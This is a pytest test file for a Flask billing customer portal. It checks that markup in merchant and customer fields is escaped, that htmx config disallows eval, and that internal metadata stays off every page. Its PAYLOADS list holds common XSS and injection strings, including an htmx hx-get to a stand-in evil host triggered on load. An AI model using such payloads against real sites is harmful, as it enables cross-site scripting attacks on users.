"""Injection: names of merchants and customers never add an element to a page."""

import re
from collections import Counter
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select, update

from portal_site.billing.models import Account, Coupon, Customer, Invoice, InvoiceLineItem, PortalConfiguration, Product
from portal_site.billing.rules.portal.portal_features import UPDATES
from portal_site.db.transactions import transaction
from portal_site.demo.builder import Discounted
from tests import world
from tests.client import parse
from tests.conftest import enter

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</title><script>alert(1)</script>",
    "{{7*7}}{% include 'x' %}",
    '" hx-get="//evil.example" hx-trigger="load',
    "javascript:alert(1)",
    "\u202e<b>\u2066x",
    "&lt;script&gt;",
    "]]><!--<svg/onload=alert(1)>",
]
HARMLESS = "Harmless words"
PAGES = [
    "/",
    "/subscriptions",
    "/payment-methods",
    "/billing-information",
    "/billing-information/edit",
    "/invoices",
    "/tax-ids/new",
]


def _world(words: str) -> tuple[Customer, list[str]]:
    """A customer of a merchant, both full of these words."""
    # None of these words is a web address: nothing is linked, as for a merchant without such pages.
    links = dict.fromkeys(
        ("support_url", "terms_of_service_url", "privacy_policy_url"), None if words == HARMLESS else words
    )
    shown = {"headline": words, "default_return_url": "https://acme.example"}
    with world.merchant(words, configuration=shown, **links) as made:
        product = made.product(words, words)
        price = made.price(product, 1200, "eur")
        discount = Discounted(made.coupon(words, percent_off="10"))
        address = {"line1": words, "line2": words, "city": words, "state": words, "postal_code": words, "country": "FR"}
        customer = made.customer(words, "hedda@acme.example", "x", address=address, phone=words,
                                 shipping={"name": words, "phone": words, "address": address})  # fmt: skip
        method = made.method(customer, world.VISA)
        method.brand = words
        subscription = made.subscription(customer, [(price, 2)], started=100, discount=discount, description=words)
        made.history(customer, subscription, [(product, price, 2)], most=3, last="open", discount=discount)
        theirs = Invoice.customer_id == customer.id
        values = {"description": words, "footer": words, "account_name": words}
        made.session.execute(update(Invoice).where(theirs).values(values))
        invoice = made.session.scalar(select(Invoice.id).where(theirs, Invoice.status == "open"))
        mine = InvoiceLineItem.account_id == made.account.id
        made.session.execute(update(InvoiceLineItem).where(mine).values(description=words))
    own = [f"/invoices/{invoice}", f"/invoices/{invoice}/payment", f"/payment-methods/{method.id}/removal"]
    return customer, [*PAGES, *own, f"/subscriptions/{subscription.id}", "/session-over"]


def _shape(html: str) -> Counter[Any]:
    """Elements with the names of their attributes."""
    return Counter(
        (element.tag, tuple(sorted(element.attrib))) for element in parse(html).iter() if isinstance(element.tag, str)
    )


@pytest.fixture(scope="module")
def plain(sqlite_app: Flask) -> list[Counter[Any]]:
    """The pages of a customer with harmless words."""
    with sqlite_app.app_context():
        customer, pages = _world(HARMLESS)
        client = enter(sqlite_app, customer)
        return [_shape(client.get(page).text) for page in pages]


@pytest.mark.case("C4")
@pytest.mark.case("C5")
@pytest.mark.parametrize("payload", PAYLOADS)
def test_markup_in_values_is_escaped(plain: list[Counter[Any]], lite_app: Flask, payload: str) -> None:
    customer, pages = _world(payload)
    client = enter(lite_app, customer)
    for page, expected in zip(pages, plain, strict=True):
        response = client.get(page)
        assert response.status_code == (403 if page == "/session-over" else 200), page
        assert _shape(response.text) == expected, page
        for element in parse(response.text).iter():
            if isinstance(element.tag, str):
                for name, value in element.attrib.items():
                    assert not (name in ("href", "src", "action") and value.startswith("javascript:"))


@pytest.mark.case("C4")
@pytest.mark.parametrize("payload", PAYLOADS)
def test_markup_in_a_refused_form_is_escaped(lite_app: Flask, payload: str) -> None:
    client = enter(lite_app, world.scene().customer)
    form = client.form("/billing-information/edit")
    harmless, evil = (
        client.send("/billing-information/edit", {**form, "email": words, "name": words, "address_city": words})
        for words in ("Harmless words", payload)
    )
    assert harmless.status_code == evil.status_code == 422
    assert _shape(harmless.text) == _shape(evil.text)


@pytest.mark.case("C5")
def test_htmx_may_neither_evaluate_nor_leave_nor_remember(lite_app: Flask) -> None:
    html = enter(lite_app, world.scene().customer).get("/").text
    settings = re.search(r"name=\"htmx-config\" content='([^']+)'", html)
    assert settings is not None
    for part in ('"allowEval":false', '"allowScriptTags":false', '"selfRequestsOnly":true', '"historyCacheSize":0'):
        assert part in settings[1]


@pytest.mark.case("B5")
def test_metadata_is_on_no_page(lite_app: Flask) -> None:
    scene = world.scene(last="open")
    secret = "zzz-internal-zzz"
    with transaction() as session:
        for model in (Customer, Product, Coupon, Invoice):
            mine = model.account_id == scene.account_id
            session.execute(update(model).where(mine).values(metadata_={"note": secret}))
        mine = Customer.id == scene.customer.id
        session.execute(update(Customer).where(mine).values(description=secret, tax_exempt="reverse"))
        session.execute(
            update(PortalConfiguration).where(PortalConfiguration.account_id == scene.account_id).values(name=secret)
        )
        assert session.get(Account, scene.account_id)
        invoice = session.scalar(select(Invoice.id).where(Invoice.customer_id == scene.customer.id).limit(1))
    client = enter(lite_app, scene.customer)
    for page in [
        *PAGES,
        f"/invoices/{invoice}",
        f"/subscriptions/{scene.subscription.id}",
    ]:
        assert secret not in client.get(page).text
    assert "tax_id" in UPDATES
